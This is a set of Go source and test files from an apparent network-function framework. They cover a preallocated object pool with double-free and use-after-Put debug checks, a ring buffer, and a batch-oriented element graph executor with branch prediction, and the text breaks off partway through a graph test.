// (startup paths); it panics on exhaustion.
func (p *Pool[T]) MustGet() *T {
	obj, err := p.Get()
	if err != nil {
		panic(fmt.Sprintf("mempool %q: %v (capacity %d)", p.name, err, p.stats.Capacity))
	}
	return obj
}

// Put returns an object to the freelist. If the object implements Resetter
// it is reset first. Returning more objects than the capacity panics: it
// always indicates a double-free bug.
//
//nba:hotpath
func (p *Pool[T]) Put(obj *T) {
	if obj == nil {
		panic(fmt.Sprintf("mempool %q: Put(nil)", p.name))
	}
	if p.inFree != nil && p.inFree[obj] {
		panic(fmt.Sprintf("mempool %q: double Put of %p", p.name, obj))
	}
	if len(p.free) >= p.stats.Capacity {
		panic(fmt.Sprintf("mempool %q: overflow on Put — double free?", p.name))
	}
	if r, ok := any(obj).(Resetter); ok {
		r.Reset()
	}
	p.free = append(p.free, obj) //nbalint:allow hotalloc free is preallocated to capacity in New; the overflow panic above bounds len
	if p.inFree != nil {
		p.inFree[obj] = true
	}
	p.stats.Puts++
	p.stats.Outstanding--
}

// AssertDrained returns an error when objects are still outstanding — i.e.
// the owner finished a run without every Get being matched by a Put. A
// non-zero count after a drained run is a leak (or, negative, a
// double-free that slipped past the Put guards).
func (p *Pool[T]) AssertDrained() error {
	if p.stats.Outstanding != 0 {
		return fmt.Errorf("mempool %q: %d object(s) still outstanding at drain (gets %d, puts %d, capacity %d)",
			p.name, p.stats.Outstanding, p.stats.Gets, p.stats.Puts, p.stats.Capacity)
	}
	return nil
}

// Available returns the number of objects currently free.
func (p *Pool[T]) Available() int { return len(p.free) }

// Stats returns a snapshot of pool statistics.
func (p *Pool[T]) Stats() Stats { return p.stats }
