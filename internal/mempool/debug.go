package mempool

// Debug checks are the dynamic complement to nbalint's mempoolerr static
// rule: the analyzer catches discarded Get errors at compile time, the
// checks here catch double-Put and use-after-Put at run time. They are off
// by default (the data path pays only a nil-map check) and can be switched
// on per pool with EnableDebugChecks, or for every pool by building with
// `-tags debugChecks`.

// EnableDebugChecks switches the pool into checked mode from this point on:
// Put panics on objects already on the freelist (double free) and AssertLive
// panics on objects that are on it (use after Put).
func (p *Pool[T]) EnableDebugChecks() {
	p.inFree = make(map[*T]bool, p.stats.Capacity)
	for _, obj := range p.free {
		p.inFree[obj] = true
	}
}

// DebugChecksEnabled reports whether the pool is in checked mode.
func (p *Pool[T]) DebugChecksEnabled() bool { return p.inFree != nil }

// AssertLive panics if obj currently sits on the freelist — i.e. the caller
// holds a pointer it already returned with Put, the pooled analogue of
// use-after-free. A no-op when debug checks are disabled.
func (p *Pool[T]) AssertLive(obj *T) {
	if p.inFree != nil && p.inFree[obj] {
		panic("mempool \"" + p.name + "\": use after Put — object is on the freelist")
	}
}
