//go:build !debugChecks

package mempool

// debugChecksDefault controls whether New enables debug checks on every
// pool. Build with `-tags debugChecks` to flip it on globally.
const debugChecksDefault = false
