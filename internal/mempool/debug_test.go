package mempool

import (
	"strings"
	"testing"
)

func mustPanic(t *testing.T, wantSub string, fn func()) {
	t.Helper()
	defer func() {
		r := recover()
		if r == nil {
			t.Fatalf("expected panic containing %q, got none", wantSub)
		}
		msg, ok := r.(string)
		if !ok {
			t.Fatalf("panic value %v is not a string", r)
		}
		if !strings.Contains(msg, wantSub) {
			t.Fatalf("panic %q does not contain %q", msg, wantSub)
		}
	}()
	fn()
}

// TestDebugDoublePut: with checks enabled, returning the same object twice
// panics with a double-Put diagnostic even while the pool is not full (the
// case the capacity-overflow panic in Put cannot catch).
func TestDebugDoublePut(t *testing.T) {
	p := New[int]("dbg", 4, nil)
	p.EnableDebugChecks()
	a := mustGetForTest(t, p)
	b := mustGetForTest(t, p) // keep one outstanding so the pool stays non-full
	p.Put(a)
	mustPanic(t, "double Put", func() { p.Put(a) })
	_ = b
}

// TestDebugUseAfterPut: AssertLive is silent for held objects and panics
// once the object is back on the freelist.
func TestDebugUseAfterPut(t *testing.T) {
	p := New[int]("dbg", 2, nil)
	p.EnableDebugChecks()
	a := mustGetForTest(t, p)
	p.AssertLive(a) // held: must not panic
	p.Put(a)
	mustPanic(t, "use after Put", func() { p.AssertLive(a) })
}

// TestDebugChecksRoundTrip: normal get/put cycles raise no false positives
// and the free-set tracking stays consistent across reuse.
func TestDebugChecksRoundTrip(t *testing.T) {
	p := New[int]("dbg", 2, nil)
	p.EnableDebugChecks()
	if !p.DebugChecksEnabled() {
		t.Fatal("checks should be enabled")
	}
	for i := 0; i < 10; i++ {
		a := mustGetForTest(t, p)
		b := mustGetForTest(t, p)
		p.AssertLive(a)
		p.AssertLive(b)
		p.Put(a)
		p.Put(b)
	}
	if got := p.Available(); got != 2 {
		t.Fatalf("available = %d, want 2", got)
	}
}

// TestDebugChecksDisabledByDefault: without the build tag or the explicit
// option, pools stay unchecked and AssertLive is a no-op.
func TestDebugChecksDisabledByDefault(t *testing.T) {
	if debugChecksDefault {
		// Built with -tags debugChecks: the default is intentionally on.
		t.Skip("debugChecks build tag active")
	}
	p := New[int]("plain", 2, nil)
	if p.DebugChecksEnabled() {
		t.Fatal("checks must be off by default")
	}
	a := mustGetForTest(t, p)
	p.Put(a)
	p.AssertLive(a) // no-op without checks: must not panic
}

func mustGetForTest(t *testing.T, p *Pool[int]) *int {
	t.Helper()
	obj, err := p.Get()
	if err != nil {
		t.Fatalf("Get: %v", err)
	}
	return obj
}
