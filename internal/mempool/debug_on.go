//go:build debugChecks

package mempool

// debugChecksDefault is flipped on by the debugChecks build tag: every pool
// created by New starts in checked mode (double-Put / use-after-Put panics).
const debugChecksDefault = true
