package mempool

import (
	"strings"
	"testing"
	"testing/quick"
)

type thing struct {
	n     int
	reset bool
}

func (t *thing) Reset() { t.reset = true; t.n = 0 }

func TestPoolGetPut(t *testing.T) {
	p := New[thing]("t", 4, func(th *thing) { th.n = 7 })
	if p.Available() != 4 {
		t.Fatalf("Available = %d, want 4", p.Available())
	}
	a := p.MustGet()
	if a.n != 7 {
		t.Errorf("construct not applied: n=%d", a.n)
	}
	a.n = 42
	p.Put(a)
	if !a.reset {
		t.Error("Put did not reset the object")
	}
	if p.Available() != 4 {
		t.Errorf("Available after Put = %d, want 4", p.Available())
	}
}

func TestPoolExhaustion(t *testing.T) {
	p := New[thing]("t", 2, nil)
	x := p.MustGet()
	y := p.MustGet()
	if _, err := p.Get(); err != ErrExhausted {
		t.Errorf("Get on empty pool: err = %v, want ErrExhausted", err)
	}
	s := p.Stats()
	if s.Failures != 1 {
		t.Errorf("Failures = %d, want 1", s.Failures)
	}
	if s.HighWater != 2 || s.Outstanding != 2 {
		t.Errorf("HighWater=%d Outstanding=%d, want 2,2", s.HighWater, s.Outstanding)
	}
	p.Put(x)
	p.Put(y)
	if p.Stats().Outstanding != 0 {
		t.Errorf("Outstanding after returns = %d, want 0", p.Stats().Outstanding)
	}
}

func TestPoolMustGetPanicsWhenEmpty(t *testing.T) {
	p := New[thing]("t", 1, nil)
	p.MustGet()
	defer func() {
		if recover() == nil {
			t.Error("MustGet on empty pool did not panic")
		}
	}()
	p.MustGet()
}

func TestPoolDoubleFreePanics(t *testing.T) {
	p := New[thing]("t", 1, nil)
	x := p.MustGet()
	p.Put(x)
	defer func() {
		if recover() == nil {
			t.Error("overflowing Put did not panic")
		}
	}()
	p.Put(x)
}

func TestPoolPutNilPanics(t *testing.T) {
	p := New[thing]("t", 1, nil)
	defer func() {
		if recover() == nil {
			t.Error("Put(nil) did not panic")
		}
	}()
	p.Put(nil)
}

func TestPoolNeverHandsOutDuplicates(t *testing.T) {
	// Property: a sequence of Get/Put operations never yields the same
	// pointer twice while it is outstanding.
	f := func(ops []bool) bool {
		p := New[thing]("t", 8, nil)
		out := map[*thing]bool{}
		for _, get := range ops {
			if get {
				obj, err := p.Get()
				if err != nil {
					continue
				}
				if out[obj] {
					return false // duplicate!
				}
				out[obj] = true
			} else {
				for o := range out {
					p.Put(o)
					delete(out, o)
					break
				}
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestRingFIFO(t *testing.T) {
	r := NewRing[int](4)
	for i := 1; i <= 4; i++ {
		if !r.Push(i) {
			t.Fatalf("Push(%d) failed", i)
		}
	}
	if r.Push(5) {
		t.Error("Push on full ring succeeded")
	}
	if r.Drops() != 1 {
		t.Errorf("Drops = %d, want 1", r.Drops())
	}
	if v, ok := r.Peek(); !ok || v != 1 {
		t.Errorf("Peek = %v,%v, want 1,true", v, ok)
	}
	for i := 1; i <= 4; i++ {
		v, ok := r.Pop()
		if !ok || v != i {
			t.Errorf("Pop = %v,%v, want %d,true", v, ok, i)
		}
	}
	if _, ok := r.Pop(); ok {
		t.Error("Pop on empty ring succeeded")
	}
}

func TestRingRoundsUpToPowerOfTwo(t *testing.T) {
	r := NewRing[int](5)
	if r.Cap() != 8 {
		t.Errorf("Cap = %d, want 8", r.Cap())
	}
}

func TestRingWrapAround(t *testing.T) {
	r := NewRing[int](4)
	// Push/pop more than capacity to exercise index wrapping.
	for i := 0; i < 100; i++ {
		if !r.Push(i) {
			t.Fatalf("Push(%d) failed", i)
		}
		v, ok := r.Pop()
		if !ok || v != i {
			t.Fatalf("Pop = %v,%v, want %d", v, ok, i)
		}
	}
	if r.Len() != 0 {
		t.Errorf("Len = %d, want 0", r.Len())
	}
}

func TestRingOrderProperty(t *testing.T) {
	f := func(vals []int) bool {
		r := NewRing[int](len(vals) + 1)
		for _, v := range vals {
			r.Push(v)
		}
		for _, want := range vals {
			got, ok := r.Pop()
			if !ok || got != want {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func BenchmarkPoolGetPut(b *testing.B) {
	p := New[thing]("bench", 64, nil)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		obj := p.MustGet()
		p.Put(obj)
	}
}

func BenchmarkRingPushPop(b *testing.B) {
	r := NewRing[int](1024)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		r.Push(i)
		r.Pop()
	}
}

func TestAssertDrained(t *testing.T) {
	p := New[thing]("drain", 4, nil)
	if err := p.AssertDrained(); err != nil {
		t.Fatalf("fresh pool not drained: %v", err)
	}
	a, b := p.MustGet(), p.MustGet()
	err := p.AssertDrained()
	if err == nil {
		t.Fatal("2 outstanding objects, AssertDrained returned nil")
	}
	for _, want := range []string{`"drain"`, "2 object(s)", "gets 2", "puts 0"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error %q missing %q", err, want)
		}
	}
	p.Put(a)
	p.Put(b)
	if err := p.AssertDrained(); err != nil {
		t.Fatalf("drained pool still errors: %v", err)
	}
}
