// Package graph implements NBA's ElementGraph: the batch-oriented modular
// pipeline that traverses user-defined elements until a batch is stored,
// dropped or transmitted (paper §3.2).
//
// It owns the two techniques the paper introduces to make computation
// batching cheap in the presence of branches:
//
//   - multi-edge branch avoidance by carrying the output NIC port as an
//     annotation and split-forwarding at the end of the pipeline, and
//   - batch-level branch prediction: the input batch object is reused for
//     the output edge that took the most packets last time, with minority
//     packets masked out and moved into newly allocated split batches.
package graph

import (
	"fmt"

	"nba/internal/batch"
	"nba/internal/conflang"
	"nba/internal/element"
	"nba/internal/packet"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
	"nba/internal/trace"
)

// unconnected marks an output port with no successor.
const unconnected = -1

// Node is one element instance in the graph.
type Node struct {
	ID   int
	Name string
	Elem element.Element

	// out maps output-port index to successor node ID (or unconnected).
	out []int

	// Cached interface upgrades.
	batchElem   element.BatchElement
	offloadable element.Offloadable
	sinkKind    element.SinkKind
	isSink      bool
	isSource    bool

	cost sysinfo.ElementCost

	// predCount tracks, per output port, how many packets took that port
	// last time a real branch occurred at this node (paper §3.2: "each
	// output port of a module tracks the number of packets who take the
	// path starting with it").
	predCount []uint64

	// Stats.
	Processed uint64 // packets processed
	Dropped   uint64 // packets dropped here
	Splits    uint64 // split batches allocated at this node
	Reuses    uint64 // branch-predicted batch reuses
}

// Successor returns the node ID connected to output port p.
func (n *Node) Successor(p int) int { return n.out[p] }

// IsOffloadable reports whether the node's element has a device-side
// function.
func (n *Node) IsOffloadable() bool { return n.offloadable != nil }

// Offloadable returns the node's offloadable interface (nil if none).
func (n *Node) Offloadable() element.Offloadable { return n.offloadable }

// Options control graph execution behaviour.
type Options struct {
	// BranchPrediction enables batch reuse at branches (paper Figure 10).
	// When disabled, every branch splits all paths into new batches (the
	// Figure 1 worst case).
	BranchPrediction bool
	// OffloadChaining fuses consecutive offloadable elements into one
	// device task sharing datablocks (the paper's §3.3 datablock reuse
	// optimisation). When disabled each offloadable element becomes its own
	// task with its own copies.
	OffloadChaining bool
}

// DefaultOptions returns the production configuration.
func DefaultOptions() Options {
	return Options{BranchPrediction: true, OffloadChaining: true}
}

// Env is the set of framework services the executor needs. The worker
// loop implements it.
type Env interface {
	// Transmit hands a fully processed packet to the TX path.
	Transmit(pkt *packet.Packet)
	// ReleasePacket returns a dropped packet to its mempool.
	ReleasePacket(pkt *packet.Packet)
	// GetBatch allocates a batch for splitting; it may fail under pressure.
	GetBatch() (*batch.Batch, error)
	// PutBatch returns an empty or consumed batch to the pool.
	PutBatch(b *batch.Batch)
	// Offload takes ownership of a batch that the load balancer routed to a
	// device, at the given offloadable node. The framework resumes
	// processing at resumeNode (or finishes if resumeNode is unconnected)
	// once the device completes.
	Offload(head *Node, chain []*Node, resumeNode int, b *batch.Batch)
	// Charge accounts CPU cycles to the current worker.
	Charge(c simtime.Cycles)
}

// Graph is one replica of the element pipeline (one per worker).
type Graph struct {
	Nodes  []*Node
	Source *Node
	opts   Options
	cm     *sysinfo.CostModel

	// DropUnrouted counts packets that reached an unconnected output port.
	DropUnrouted uint64

	// Tracer, when non-nil, receives one trace.KindBatch event per element
	// batch (element name, live packets, cycles charged, node ID). TraceNow
	// supplies the worker's current virtual time, TraceActor identifies
	// the worker and TraceTenant the tenant whose graph this is (trace.
	// NoTenant when unowned). These are optional observability hooks set by
	// the owning worker; they are deliberately not part of the Env
	// interface so test environments need not implement them.
	Tracer      *trace.Tracer
	TraceNow    func() simtime.Time
	TraceActor  int32
	TraceTenant int32

	// Traversal scratch, reused across batches so the steady-state pipeline
	// allocates nothing (the alloc_test gate). stack is shared by nested
	// RunFrom invocations (an offload completing synchronously re-enters the
	// executor) via a base index; histScratch and splitScratch are sized in
	// Build to the widest node and only live within one forward call.
	stack        []workItem
	histScratch  []int
	splitScratch []*batch.Batch
}

// Build instantiates a parsed configuration into an executable graph,
// creating and configuring one element instance per declaration.
func Build(cfg *conflang.Config, cctx *element.ConfigContext, cm *sysinfo.CostModel, opts Options) (*Graph, error) {
	g := &Graph{opts: opts, cm: cm}
	byName := map[string]*Node{}

	for _, d := range cfg.Decls {
		elem, err := element.NewByClass(d.Class)
		if err != nil {
			return nil, fmt.Errorf("line %d: %w", d.Line, err)
		}
		if err := elem.Configure(cctx, d.Params); err != nil {
			return nil, fmt.Errorf("line %d: configuring %s (%s): %w", d.Line, d.Name, d.Class, err)
		}
		n := &Node{
			ID:   len(g.Nodes),
			Name: d.Name,
			Elem: elem,
			cost: cm.ElementCostOf(d.Class),
		}
		n.out = make([]int, elem.OutPorts())
		for i := range n.out {
			n.out[i] = unconnected
		}
		n.predCount = make([]uint64, elem.OutPorts())
		if be, ok := elem.(element.BatchElement); ok {
			n.batchElem = be
		}
		if off, ok := elem.(element.Offloadable); ok {
			n.offloadable = off
		}
		if s, ok := elem.(element.Sink); ok {
			n.isSink = true
			n.sinkKind = s.SinkKind()
		}
		if _, ok := elem.(element.Source); ok {
			n.isSource = true
		}
		g.Nodes = append(g.Nodes, n) //nbalint:allow sharedstate graphs also build inside admit epochs on the serial engine; report reads Nodes after the event loop drains
		byName[d.Name] = n
	}

	for _, e := range cfg.Edges {
		from, to := byName[e.From], byName[e.To]
		if e.FromPort >= len(from.out) {
			return nil, fmt.Errorf("line %d: %s has no output port %d (element %s has %d)",
				e.Line, e.From, e.FromPort, from.Elem.Class(), len(from.out))
		}
		if from.out[e.FromPort] != unconnected {
			return nil, fmt.Errorf("line %d: output port %d of %s connected twice", e.Line, e.FromPort, e.From)
		}
		if to.isSource {
			return nil, fmt.Errorf("line %d: cannot connect into source element %s", e.Line, e.To)
		}
		from.out[e.FromPort] = to.ID
	}

	maxPorts := 1
	for _, n := range g.Nodes {
		if len(n.out) > maxPorts {
			maxPorts = len(n.out)
		}
	}
	g.histScratch = make([]int, maxPorts+2)
	g.splitScratch = make([]*batch.Batch, maxPorts)

	return g, g.validate()
}

func (g *Graph) validate() error {
	for _, n := range g.Nodes {
		if n.isSource {
			if g.Source != nil {
				return fmt.Errorf("graph: multiple source elements (%s and %s)", g.Source.Name, n.Name)
			}
			g.Source = n
		}
	}
	if g.Source == nil {
		return fmt.Errorf("graph: no source element (add FromInput)")
	}
	if g.Source.out[0] == unconnected {
		return fmt.Errorf("graph: source %s is not connected to anything", g.Source.Name)
	}
	// Reject cycles: the push-only executor requires a DAG.
	const (
		white = 0
		grey  = 1
		black = 2
	)
	color := make([]int, len(g.Nodes))
	var visit func(id int) error
	visit = func(id int) error {
		color[id] = grey
		for _, s := range g.Nodes[id].out {
			if s == unconnected {
				continue
			}
			switch color[s] {
			case grey:
				return fmt.Errorf("graph: cycle through %s", g.Nodes[s].Name)
			case white:
				if err := visit(s); err != nil {
					return err
				}
			}
		}
		color[id] = black
		return nil
	}
	for _, n := range g.Nodes {
		if color[n.ID] == white {
			if err := visit(n.ID); err != nil {
				return err
			}
		}
	}
	// A sink must be reachable from the source, or every packet leaks.
	reach := map[int]bool{}
	var walk func(id int)
	walk = func(id int) {
		if reach[id] {
			return
		}
		reach[id] = true
		for _, s := range g.Nodes[id].out {
			if s != unconnected {
				walk(s)
			}
		}
	}
	walk(g.Source.ID)
	for _, n := range g.Nodes {
		if reach[n.ID] && n.isSink {
			return nil
		}
	}
	return fmt.Errorf("graph: no sink (ToOutput/Discard) reachable from source")
}

// NodeByName returns the named node, or nil.
func (g *Graph) NodeByName(name string) *Node {
	for _, n := range g.Nodes {
		if n.Name == name {
			return n
		}
	}
	return nil
}

// OffloadChainAt computes the maximal run of consecutive offloadable nodes
// beginning at head (following single output edges), honouring the
// OffloadChaining option, and the node ID processing resumes at afterwards.
func (g *Graph) OffloadChainAt(head *Node) (chain []*Node, resume int) {
	chain = []*Node{head}
	cur := head
	for {
		if len(cur.out) != 1 {
			return chain, unconnected
		}
		next := cur.out[0]
		if next == unconnected {
			return chain, unconnected
		}
		nn := g.Nodes[next]
		if !g.opts.OffloadChaining || nn.offloadable == nil {
			return chain, next
		}
		chain = append(chain, nn)
		cur = nn
	}
}

// workItem is one pending (node, batch) pair during traversal.
type workItem struct {
	node int
	b    *batch.Batch
}

// Inject runs a freshly received batch through the pipeline, starting at
// the source's successor. The graph takes ownership of the batch.
//
//nba:hotpath
func (g *Graph) Inject(env Env, pctx *element.ProcContext, b *batch.Batch) {
	g.RunFrom(env, pctx, g.Source.out[0], b)
}

// push schedules a (node, batch) pair on the shared traversal stack.
//
//nba:hotpath
func (g *Graph) push(node int, b *batch.Batch) {
	g.stack = append(g.stack, workItem{node: node, b: b}) //nbalint:allow hotalloc stack capacity reaches a steady state after the first branchy traversals
}

// RunFrom processes a batch beginning at the given node (used by Inject and
// to resume after offload completion). Passing unconnected finishes the
// batch: remaining packets are treated as unrouted drops.
//
// The traversal stack is a reusable field rather than a local so steady
// state allocates nothing; a base index makes the loop re-entrant, since
// step can reach back into RunFrom (an Offload that falls back to the CPU
// resumes the aggregate synchronously).
//
//nba:hotpath
func (g *Graph) RunFrom(env Env, pctx *element.ProcContext, nodeID int, b *batch.Batch) {
	base := len(g.stack)
	g.push(nodeID, b)
	for len(g.stack) > base {
		n := len(g.stack) - 1
		item := g.stack[n]
		g.stack[n] = workItem{}
		g.stack = g.stack[:n]
		g.step(env, pctx, item)
	}
}

//nba:hotpath
func (g *Graph) step(env Env, pctx *element.ProcContext, item workItem) {
	b := item.b
	if b.Live() == 0 {
		env.Charge(g.cm.BatchFree)
		env.PutBatch(b)
		return
	}
	if item.node == unconnected {
		g.DropUnrouted += uint64(b.Live())
		g.dropAll(env, b, nil)
		return
	}
	n := g.Nodes[item.node]
	env.Charge(g.cm.ElementDispatch + g.cm.GraphTraverse)

	// Offload interception: a batch whose device annotation selects an
	// accelerator leaves the CPU pipeline here (paper Figure 7).
	if n.offloadable != nil && b.Anno[batch.AnnoDevice] != batch.CPUDevice {
		chain, resume := g.OffloadChainAt(n)
		env.Offload(n, chain, resume, b)
		return
	}

	// Per-batch elements run once per batch without decomposing it.
	if n.batchElem != nil {
		live := b.Live()
		charged := scaled(n.cost.Fixed+simtime.Cycles(n.cost.PerByte*float64(b.TotalBytes())), pctx)
		env.Charge(charged)
		if g.Tracer != nil {
			g.Tracer.EmitT(g.TraceNow(), trace.KindBatch, g.TraceActor, g.TraceTenant, n.Name,
				int64(live), int64(charged), int64(n.ID), 0)
		}
		r := n.batchElem.ProcessBatch(pctx, b)
		n.Processed += uint64(b.Live()) //nbalint:allow sharedstate stats counter; read happens-after the event loop drains
		if r == batch.ResultDrop {
			n.Dropped += uint64(b.Live())
			g.dropAll(env, b, nil)
			return
		}
		if r >= len(n.out) {
			panic(fmt.Sprintf("graph: %s returned port %d of %d", n.Name, r, len(n.out)))
		}
		g.push(n.out[r], b)
		return
	}

	// Per-packet elements: the framework runs the iteration loop (paper
	// §3.2: "NBA runs an iteration loop over packets in the input batch at
	// every element whereas elements expose only a per-packet interface").
	var cycles simtime.Cycles
	live := b.Live()
	nOut := len(n.out)
	b.ForEachLive(func(i int, pkt *packet.Packet) {
		pctx.ExtraCycles = 0
		r := n.Elem.Process(pctx, pkt)
		if r >= nOut && !n.isSink {
			panic(fmt.Sprintf("graph: %s returned port %d of %d", n.Name, r, nOut))
		}
		b.SetResult(i, r)
		cycles += n.cost.Cycles(pkt.Length()) + pctx.ExtraCycles
		n.Processed++
	})
	charged := scaled(cycles, pctx)
	env.Charge(charged)
	if g.Tracer != nil {
		g.Tracer.EmitT(g.TraceNow(), trace.KindBatch, g.TraceActor, g.TraceTenant, n.Name,
			int64(live), int64(charged), int64(n.ID), 0)
	}

	if n.isSink {
		g.finishAtSink(env, n, b)
		return
	}

	g.forward(env, n, b)
}

// scaled applies the worker's current cost scale (memory contention, NUMA
// penalty) to a cycle count.
//
//nba:hotpath
func scaled(c simtime.Cycles, pctx *element.ProcContext) simtime.Cycles {
	if pctx.CostScale == 0 || pctx.CostScale == 1 {
		return c
	}
	return simtime.Cycles(float64(c) * pctx.CostScale)
}

//nba:hotpath
func (g *Graph) finishAtSink(env Env, n *Node, b *batch.Batch) {
	if n.sinkKind == element.SinkTransmit {
		env.Charge(g.cm.TxBatchFixed)
		var cycles simtime.Cycles
		b.ForEachLive(func(i int, pkt *packet.Packet) {
			cycles += g.cm.TxPerPacket
			env.Transmit(pkt)
		})
		env.Charge(cycles)
	} else {
		b.ForEachLive(func(i int, pkt *packet.Packet) {
			n.Dropped++
			env.ReleasePacket(pkt)
		})
	}
	env.Charge(g.cm.BatchFree)
	env.PutBatch(b)
}

// dropAll releases every live packet and the batch itself. If n is non-nil
// its drop counter is charged.
//
//nba:hotpath
func (g *Graph) dropAll(env Env, b *batch.Batch, n *Node) {
	b.ForEachLive(func(i int, pkt *packet.Packet) {
		if n != nil {
			n.Dropped++
		}
		env.ReleasePacket(pkt)
	})
	env.Charge(g.cm.BatchFree)
	env.PutBatch(b)
}

// forward routes a processed batch to successor nodes, handling drops,
// single-path fast forwarding, and branches with prediction or splitting.
//
//nba:hotpath
func (g *Graph) forward(env Env, n *Node, b *batch.Batch) {
	hist := g.histScratch
	b.ResultHistogramInto(hist, len(n.out)-1)

	// Release dropped packets (hist[0]).
	if hist[0] > 0 {
		var cycles simtime.Cycles
		for i := 0; i < b.Count(); i++ {
			if !b.IsMasked(i) && b.Result(i) == batch.ResultDrop {
				n.Dropped++
				env.ReleasePacket(b.Packet(i))
				b.Mask(i)
				cycles += g.cm.MaskPerPacket
			}
		}
		env.Charge(cycles)
		if b.Live() == 0 {
			env.Charge(g.cm.BatchFree)
			env.PutBatch(b)
			return
		}
	}

	// Count populated output ports.
	populated := 0
	lastPort := 0
	for p := 0; p < len(n.out); p++ {
		if hist[p+1] > 0 {
			populated++
			lastPort = p
		}
	}

	if populated == 1 && (g.opts.BranchPrediction || len(n.out) == 1) {
		// Fast path: whole batch takes one edge; reuse it as-is. With
		// branch prediction disabled, multi-edge nodes always split into
		// fresh batches (the paper's Figure 1 worst case does no reuse at
		// all), so the fast path only applies to single-edge nodes there.
		g.push(n.out[lastPort], b)
		return
	}

	// Real branch.
	env.Charge(g.cm.BranchCheck)

	reusePort := -1
	if g.opts.BranchPrediction {
		// Reuse the input batch for the port that carried the most packets
		// last time (paper §3.2). Seed with the current histogram on the
		// first branch.
		var best uint64
		for p := 0; p < len(n.out); p++ {
			if n.predCount[p] > best {
				best = n.predCount[p]
				reusePort = p
			}
		}
		if reusePort == -1 {
			for p := 0; p < len(n.out); p++ {
				if hist[p+1] > 0 && (reusePort == -1 || hist[p+1] > hist[reusePort+1]) {
					reusePort = p
				}
			}
		}
	}
	for p := 0; p < len(n.out); p++ {
		n.predCount[p] = uint64(hist[p+1])
	}

	// Move packets of non-reuse ports into split batches. splits is the
	// port-indexed scratch sized at Build; entries are cleared before the
	// function returns, so no batch pointer outlives the call.
	var cycles simtime.Cycles
	splits := g.splitScratch
	for i := 0; i < b.Count(); i++ {
		if b.IsMasked(i) {
			continue
		}
		r := b.Result(i)
		if r == reusePort {
			continue
		}
		sb := splits[r]
		if sb == nil {
			nb, err := env.GetBatch()
			if err != nil {
				// Batch pool exhausted: drop this path's packets. Counted
				// as drops; the failure-injection tests cover this.
				n.Dropped++
				env.ReleasePacket(b.Packet(i))
				b.Mask(i)
				continue
			}
			env.Charge(g.cm.BatchAlloc)
			nb.Anno = b.Anno
			splits[r] = nb
			sb = nb
			n.Splits++ //nbalint:allow sharedstate stats counter; read happens-after the event loop drains
		}
		sb.Add(b.Packet(i))
		b.Mask(i)
		cycles += g.cm.SplitPerPacket + g.cm.MaskPerPacket
	}
	env.Charge(cycles)

	// Dispatch split batches (in deterministic port order), clearing the
	// scratch as we go.
	for p := 0; p < len(n.out); p++ {
		if sb := splits[p]; sb != nil {
			splits[p] = nil
			g.push(n.out[p], sb)
		}
	}

	if reusePort >= 0 && b.Live() > 0 {
		n.Reuses++ //nbalint:allow sharedstate stats counter; read happens-after the event loop drains
		g.push(n.out[reusePort], b)
	} else {
		env.Charge(g.cm.BatchFree)
		env.PutBatch(b)
	}
}
