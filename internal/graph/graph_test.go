package graph

import (
	"strings"
	"testing"

	"nba/internal/batch"
	"nba/internal/conflang"
	"nba/internal/element"
	"nba/internal/packet"
	"nba/internal/rng"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
)

// testEnv implements Env over plain slices and pools.
type testEnv struct {
	transmitted []*packet.Packet
	released    []*packet.Packet
	batchPool   *batch.Pool
	offloads    []offloadCall
	cycles      simtime.Cycles
}

type offloadCall struct {
	head   *Node
	chain  []*Node
	resume int
	b      *batch.Batch
}

func newTestEnv() *testEnv {
	return &testEnv{batchPool: batch.NewPool("test", 64)}
}

func (e *testEnv) Transmit(p *packet.Packet)      { e.transmitted = append(e.transmitted, p) }
func (e *testEnv) ReleasePacket(p *packet.Packet) { e.released = append(e.released, p) }
func (e *testEnv) GetBatch() (*batch.Batch, error) {
	return e.batchPool.Get()
}
func (e *testEnv) PutBatch(b *batch.Batch) { e.batchPool.Put(b) }
func (e *testEnv) Offload(head *Node, chain []*Node, resume int, b *batch.Batch) {
	e.offloads = append(e.offloads, offloadCall{head, chain, resume, b})
}
func (e *testEnv) Charge(c simtime.Cycles) { e.cycles += c }

// offloadableNoOp is a trivially offloadable element for structural tests.
type offloadableNoOp struct {
	element.Base
	class string
}

func (e *offloadableNoOp) Class() string { return e.class }
func (e *offloadableNoOp) Process(ctx *element.ProcContext, pkt *packet.Packet) int {
	return 0
}
func (e *offloadableNoOp) Datablocks() []element.Datablock {
	return []element.Datablock{{Name: "pkt", Kind: element.WholePacket, H2D: true, D2H: true}}
}
func (e *offloadableNoOp) ProcessOffloaded(ctx *element.ProcContext, b *batch.Batch) {}

func init() {
	element.Register("TestOffloadA", func() element.Element { return &offloadableNoOp{class: "TestOffloadA"} })
	element.Register("TestOffloadB", func() element.Element { return &offloadableNoOp{class: "TestOffloadB"} })
}

func buildGraph(t *testing.T, src string, opts Options) *Graph {
	t.Helper()
	cfg, err := conflang.Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	cctx := &element.ConfigContext{
		Socket: 0, Worker: 0, NodeLocal: element.NewNodeLocal(),
		NumPorts: 4, Rand: rng.New(7),
	}
	g, err := Build(cfg, cctx, sysinfo.Default(), opts)
	if err != nil {
		t.Fatal(err)
	}
	return g
}

func pctx() *element.ProcContext {
	return &element.ProcContext{NodeLocal: element.NewNodeLocal(), Rand: rng.New(3), CostScale: 1}
}

func mkBatch(t *testing.T, env *testEnv, n, frameLen int) *batch.Batch {
	t.Helper()
	b := env.batchPool.MustGet()
	for i := 0; i < n; i++ {
		p := &packet.Packet{}
		ln := packet.BuildUDP4(p.Buf(), [6]byte{2, 0, 0, 0, 0, 1}, [6]byte{2, 0, 0, 0, 0, 2},
			uint32(0x0A000000+i), 0xC0A80101, uint16(1000+i), 53, frameLen)
		p.SetLength(ln)
		b.Add(p)
	}
	return b
}

func TestLinearPipelineTransmitsAll(t *testing.T) {
	g := buildGraph(t, `FromInput() -> CheckIPHeader() -> DecIPTTL() -> L2Forward() -> ToOutput();`, DefaultOptions())
	env := newTestEnv()
	b := mkBatch(t, env, 32, 64)
	g.Inject(env, pctx(), b)
